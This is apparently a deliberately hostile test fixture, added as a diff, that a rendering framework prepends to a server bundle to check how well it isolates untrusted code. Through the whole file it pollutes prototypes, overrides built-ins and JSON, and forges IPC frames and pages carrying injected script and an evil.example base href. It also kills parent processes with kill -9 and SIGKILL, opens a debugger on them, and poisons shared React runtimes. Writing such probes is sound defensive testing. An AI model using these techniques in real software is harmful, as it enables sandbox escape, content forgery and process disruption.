@@ -1,0 +1,180 @@
+/* oxlint-disable -- hostile on purpose */
+// Prepended to a real release's server bundle: what its code may try from every place where it runs.
+// `HOSTILE_MARK` in a page of another area, or in anything that a browser runs, is a forged document.
+const HOSTILE_MARK = 'FORGED BY A REMOTE'
+const hostileScript = `<script>window.forged="${HOSTILE_MARK}"</script>`
+const hostilePage = {
+  kind: 'page',
+  status: 200,
+  head: `<title>${HOSTILE_MARK}</title>${hostileScript}<base href="https://evil.example/"/>`,
+  body: `<div id="shop"><h1>${HOSTILE_MARK}</h1>${hostileScript}</div>`,
+  styles: [{ name: `x"></style>${hostileScript}`, css: `</style>${hostileScript}` }],
+  hydration: { loaderData: {}, errors: null },
+  modules: ['__proto__', 'constructor'],
+}
+const hostileNow = { setTimeout, setInterval, Promise, Proxy, Reflect, Object, JSON, URL }
+const hostileTurns = {}
+
+/** Runs each of these; what throws is a door that is closed. */
+function hostileTry(...tries) {
+  for (const one of tries) {
+    try {
+      const made = one()
+      if (typeof made?.catch === 'function') made.catch(() => undefined)
+    } catch {
+      // closed
+    }
+  }
+}
+
+function hostileFrame(message) {
+  const text = new TextEncoder().encode(JSON.stringify(message))
+  const frame = new Uint8Array(4 + text.length)
+  new DataView(frame.buffer).setUint32(0, text.length, true)
+  frame.set(text, 4)
+  return frame
+}
+
+/** Says something to the server through whatever reaches it. */
+function hostileSay(message) {
+  hostileTry(
+    () => process.send(message),
+    () => process.channel.writeUtf8String({}, `${JSON.stringify(message)}\n`),
+    () => process.getBuiltinModule('fs').writeSync(3, hostileFrame(message)),
+    () => process.binding('fs').writeBuffer(3, hostileFrame(message), 0, 1, null),
+    () => new console._stderr.constructor({ fd: 3 }).write(hostileFrame(message)),
+    () => process.stdout.write(hostileFrame(message)),
+  )
+}
+
+/** Whatever an overridden method was called on: it may be the way out. */
+function hostileLeak(found) {
+  hostileTry(
+    () => typeof found?.send === 'function' && found.send({ kind: 'rendered', id: 1, rendered: hostilePage }),
+    () => typeof found?.write === 'function' && found.write(hostileFrame({ kind: 'api-call', task: 'x' })),
+    () => typeof found?.emit === 'function' && found.emit('close'),
+  )
+}
+
+function hostilePollute() {
+  const { prototype } = Object
+  for (const name of ['domain', 'channel', 'send', 'kind', 'then', 'toJSON', 'task', 'id', 'swallowErrors']) {
+    hostileTry(() =>
+      Object.defineProperty(prototype, name, {
+        configurable: true,
+        get() {
+          hostileLeak(this)
+          return undefined
+        },
+        set(value) {
+          Object.defineProperty(this, name, { value, writable: true, configurable: true, enumerable: true })
+        },
+      }),
+    )
+  }
+  const methods = [
+    [Function.prototype, 'call'],
+    [Function.prototype, 'apply'],
+    [Map.prototype, 'set'],
+    [Map.prototype, 'get'],
+    [Array.prototype, 'push'],
+    [Promise.prototype, 'then'],
+    [Uint8Array.prototype, 'subarray'],
+    [String.prototype, 'startsWith'],
+  ]
+  for (const [of, name] of methods) {
+    const real = of[name]
+    hostileTry(() => {
+      of[name] = function hostileMethod(...given) {
+        hostileLeak(this)
+        for (const one of given) hostileLeak(one)
+        return Reflect.apply(real, this, given)
+      }
+    })
+  }
+  hostileTry(
+    () => (globalThis.JSON = { ...JSON, stringify: () => JSON.stringify(hostilePage) }),
+    () =>
+      (globalThis.TextEncoder = class {
+        encode = () => hostileFrame(hostilePage)
+      }),
+    () => new Function('return process')().exit(1),
+    () => (0, eval)('process').exit(1),
+    () => import('node:child_process').then(({ execSync }) => execSync('kill -9 $PPID')),
+    () => import('data:text/javascript,import "node:net"'),
+  )
+}
+
+/** Writes over what the areas of a composition share. */
+function hostilePoison() {
+  const shared = globalThis[Symbol.for('larder:singletons')]
+  for (const modules of shared?.values?.() ?? []) {
+    const runtime = modules['react/jsx-runtime']
+    for (const target of [runtime, runtime?.default, modules.react, modules.react?.default]) {
+      for (const name of ['jsx', 'jsxs', 'createElement']) {
+        const real = target?.[name]
+        hostileTry(
+          () => (target[name] = (type, props, key) => real(type, { ...props, children: HOSTILE_MARK }, key)),
+        )
+      }
+    }
+  }
+}
+
+/** Everything at once; called from each hook. */
+function hostileAttack(where) {
+  // So often from each place: what holds its own process up is another attack.
+  const turn = (hostileTurns[where] ?? 0) + 1
+  hostileTurns[where] = turn
+  if (turn > 6) return
+  for (let id = 1; id <= 8; id += 1)
+    hostileSay({ kind: 'rendered', id, task: String(id), rendered: hostilePage })
+  const broken = [
+    null,
+    7,
+    'x',
+    [],
+    {},
+    { kind: 'rendered' },
+    { kind: '__proto__' },
+    { kind: 'failed', id: 1 },
+  ]
+  for (const message of broken) hostileSay(message)
+  for (const method of ['HEAD', 'GET', ''])
+    for (const url of ['http://[', '', '//', 'http://localhost/api/x', 'http://localhost/api/\u0000'])
+      hostileSay({
+        kind: 'api-call',
+        id: turn,
+        task: where,
+        call: 1,
+        method,
+        url,
+        path: url,
+        body: 'x',
+      })
+  hostileTry(
+    () => process.kill(process.ppid, 'SIGUSR1'),
+    () => process.kill(process.ppid, 'SIGKILL'),
+    () => process.kill(-1, 'SIGTERM'),
+    () => process.emit('message', { kind: 'render', id: 1 }),
+    () => process._debugProcess(process.ppid),
+    () => process.getBuiltinModule('inspector').open(0),
+  )
+  for (let line = 0; line < 5; line += 1) console.error(`${HOSTILE_MARK} ${where}`)
+}
+
+hostileTry(
+  () => process.removeAllListeners('unhandledRejection'),
+  () =>
+    process.prependListener('message', (message) => {
+      if (message?.kind === 'render')
+        process.send({ kind: 'rendered', id: message.id, rendered: hostilePage })
+    }),
+  () => process.on('exit', () => hostileAttack('exit')),
+  () => process.on('SIGTERM', () => undefined),
+)
+hostilePollute()
+hostileAttack('module top level')
+hostileNow.setInterval(() => hostileAttack('interval'), 200)
+hostileNow.setTimeout(hostilePoison, 1_500)
+Promise.reject(new Error(HOSTILE_MARK))
